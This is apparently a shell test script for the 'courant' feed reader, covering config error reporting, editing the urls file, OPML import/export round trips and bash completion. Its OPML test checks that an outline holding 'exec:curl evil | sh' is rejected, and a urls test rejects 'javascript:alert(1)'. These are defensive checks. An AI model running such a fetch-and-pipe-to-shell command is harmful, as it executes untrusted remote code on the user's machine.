#!/bin/sh
# SPDX-License-Identifier: MIT
# The user's files through the command line: errors with FILE:LINE and
# exit status 2 before the reader touches the terminal; add and remove
# editing the urls file in place; OPML import and export round trips.
. "$top_srcdir/tests/lib.sh"
data=$top_srcdir/tests/config/data
HOME=$tmp/home
export HOME
unset XDG_CONFIG_HOME XDG_DATA_HOME COURANT_DB COURANT_URLS COURANT_CONFIG
mkdir -p "$HOME"
C=$COURANT

# expect STATUS PATTERN -- ARGS...: runs courant, checks the exit status
# and that stderr has PATTERN and stdout nothing.
expect() {
	want=$1 pattern=$2
	shift 3
	"$C" "$@" </dev/null >"$tmp/out" 2>"$tmp/err"
	rc=$?
	if [ "$rc" -ne "$want" ]; then
		fail "courant $*: exit $rc, want $want: $(cat "$tmp/err")"
	elif ! grep -qF -- "$pattern" "$tmp/err"; then
		fail "courant $*: stderr lacks '$pattern': $(cat "$tmp/err")"
	elif [ -s "$tmp/out" ]; then
		fail "courant $*: wrote to stdout: $(od -c "$tmp/out" | head -3)"
	else
		pass
	fi
}

db=$tmp/db
printf 'set mouse yes\n\nset colour-scheme dark\n' >"$tmp/bad1"
expect 2 "$tmp/bad1:3: unknown setting 'colour-scheme'" -- --db "$db" -c "$tmp/bad1"
printf 'bind j frobnicate\n' >"$tmp/bad2"
expect 2 "$tmp/bad2:1: " -- --db "$db" -c "$tmp/bad2"
printf '# ok\ncolor title ultraviolet default\n' >"$tmp/bad3"
expect 2 "$tmp/bad3:2: " -- --db "$db" -c "$tmp/bad3"
printf 'set refresh-interval 5s\n' >"$tmp/bad4"
expect 2 "$tmp/bad4:1: refresh-interval: 5s is out of range" -- --db "$db" -c "$tmp/bad4"
printf 'include nowhere\n' >"$tmp/bad5"
expect 2 "$tmp/bad5:1: '$tmp/nowhere' does not exist" -- --db "$db" -c "$tmp/bad5"
expect 2 "$tmp: not a regular file" -- --db "$db" -c "$tmp"
expect 2 "$tmp/none: no such file" -- --db "$db" -c "$tmp/none"
printf 'set mouse yes\n\377\n' >"$tmp/bad6"
expect 2 "$tmp/bad6:2: not valid UTF-8" -- --db "$db" -c "$tmp/bad6"
printf 'http://a.example/\njavascript:alert(1)\n' >"$tmp/urls-bad"
expect 2 "$tmp/urls-bad:2: 'javascript:alert(1)' is not an http" -- --db "$db" -c /dev/null -u "$tmp/urls-bad"
expect 2 "$tmp/no-urls: no such file" -- --db "$db" -c /dev/null -u "$tmp/no-urls"
# The default config directory is read too.
mkdir -p "$HOME/.config/courant"
printf 'set osc52 perhaps\n' >"$HOME/.config/courant/config"
expect 2 "$HOME/.config/courant/config:1: osc52: 'perhaps' is not yes or no" -- --db "$db"
XDG_CONFIG_HOME=relative expect 2 "$HOME/.config/courant/config:1:" -- --db "$db"
rm "$HOME/.config/courant/config"
[ ! -e "$db" ] && pass || fail "a config error opened the database"

# add and remove edit the urls file in place.
urls=$tmp/urls
printf '# my feeds\nhttp://127.0.0.1:1/a news "~A"  # first\n\n# end\n' >"$urls"
feed="file://$top_srcdir/data/demo/world.xml"
"$C" --db "$db" -u "$urls" add "$feed" world "two words" >"$tmp/out" 2>&1 ||
	fail "add: $(cat "$tmp/out")"
printf '# my feeds\nhttp://127.0.0.1:1/a news "~A"  # first\n\n# end\n%s world "two words"\n' "$feed" >"$tmp/want"
cmp -s "$urls" "$tmp/want" && pass || fail "add: urls is $(cat "$urls")"
"$C" --db "$db" -u "$urls" remove "$feed" >/dev/null 2>&1 || fail "remove"
printf '# my feeds\nhttp://127.0.0.1:1/a news "~A"  # first\n\n# end\n' >"$tmp/want"
cmp -s "$urls" "$tmp/want" && pass || fail "remove: urls is $(cat "$urls")"
"$C" --db "$db" feeds | grep -q world && fail "remove left the feed" || pass
"$C" --db "$db" -u "$urls" remove http://nowhere.example/ >/dev/null 2>"$tmp/err"
[ $? -eq 1 ] && grep -q "no such feed" "$tmp/err" && pass || fail "remove of an unknown feed"
# A scratch database with no urls file leaves the user's files alone.
"$C" --db "$tmp/scratch.db" add "$feed" >/dev/null 2>&1 || fail "add (scratch)"
[ ! -e "$HOME/.config/courant/urls" ] && pass || fail "add created the default urls file"

# The default urls file, created by add, starts with the feeds the default
# database already had, so that the reader's sync keeps them.
feed2="file://$top_srcdir/data/demo/tech.rdf"
XDG_DATA_HOME=$tmp/data "$C" -u "$tmp/elsewhere" add "$feed" news >/dev/null 2>&1 || fail "add (elsewhere)"
XDG_DATA_HOME=$tmp/data "$C" add "$feed2" >/dev/null 2>&1 || fail "add (default)"
printf '%s news\n%s\n' "$feed" "$feed2" >"$tmp/want"
cmp -s "$HOME/.config/courant/urls" "$tmp/want" && pass || fail "seeded urls: $(cat "$HOME/.config/courant/urls")"
rm -f "$HOME/.config/courant/urls"

# OPML: three levels of folders, ISO-8859-1, titles outside ASCII.
db2=$tmp/db2
u2=$tmp/urls2
"$C" --db "$db2" -u "$u2" import "$data/nested.opml" >"$tmp/out" 2>"$tmp/err" || fail "import: $(cat "$tmp/err")"
grep -q "imported 3 feeds, 0 already subscribed, 3 skipped" "$tmp/out" && pass || fail "import: $(cat "$tmp/out")"
grep -q "line 16: 'Command': 'exec:curl evil | sh' is not an http" "$tmp/err" && pass || fail "exec outline: $(cat "$tmp/err")"
grep -q "line 17: 'Local file'" "$tmp/err" && pass || fail "file outline"
grep -q "line 18: 'Web page'" "$tmp/err" && pass || fail "link outline"
grep -qx 'http://kr.example/rss Actualités/Monde/Asie "~한국 뉴스"' "$u2" && pass || fail "urls after import: $(cat "$u2")"
grep -qx 'https://cafe.example/feed.xml "~Café crème"' "$u2" && pass || fail "urls after import: $(cat "$u2")"
"$C" --db "$db2" export >"$tmp/a.opml" || fail "export"
# Round trip: the export imported into a fresh database exports the same.
"$C" --db "$tmp/db3" -u "$tmp/urls3" import "$tmp/a.opml" >/dev/null 2>"$tmp/err" || fail "re-import"
[ -s "$tmp/err" ] && fail "re-import warned: $(cat "$tmp/err")" || pass
"$C" --db "$tmp/db3" export >"$tmp/b.opml" || fail "export 2"
grep -v dateCreated "$tmp/a.opml" >"$tmp/a2"
grep -v dateCreated "$tmp/b.opml" >"$tmp/b2"
cmp -s "$tmp/a2" "$tmp/b2" && pass || fail "OPML round trip: $(diff "$tmp/a2" "$tmp/b2")"
cmp -s "$u2" "$tmp/urls3" && pass || fail "urls round trip: $(diff "$u2" "$tmp/urls3")"
grep -q '<outline text="Actualités/Monde/Asie"' "$tmp/a.opml" && pass || fail "folder in export"
"$C" --db "$db2" export --format urls >"$tmp/u.txt" || fail "export urls"
cmp -s "$tmp/u.txt" "$u2" && pass || fail "export --format urls: $(diff "$tmp/u.txt" "$u2")"
expect 2 "--format is opml or urls" -- --db "$db2" export --format xml
expect 1 "not OPML" -- --db "$db2" import "$top_srcdir/data/demo/world.xml"
expect 1 "a DOCTYPE is not accepted" -- --db "$db2" import "$top_srcdir/tests/fuzz/corpus/opml/doctype.opml"

# Bash completion, without bash-completion installed.
if command -v bash >/dev/null 2>&1; then
	printf '%s news\nhttp://b.example/x\n' "$feed" >"$tmp/curls"
	COURANT_URLS=$tmp/curls bash -c '. "$1"; shift
		COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); _courant
		echo "${COMPREPLY[*]}"' sh "$top_srcdir/contrib/completion/bash/courant" \
		courant --db x remove "" >"$tmp/out" 2>&1
	[ "$(cat "$tmp/out")" = "$feed http://b.example/x" ] && pass || fail "bash completion of remove: $(cat "$tmp/out")"
	bash -c '. "$1"; shift; COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); _courant
		echo "${COMPREPLY[*]}"' sh "$top_srcdir/contrib/completion/bash/courant" \
		courant export --format "" >"$tmp/out" 2>&1
	[ "$(cat "$tmp/out")" = "opml urls" ] && pass || fail "bash completion of --format: $(cat "$tmp/out")"
fi
finish
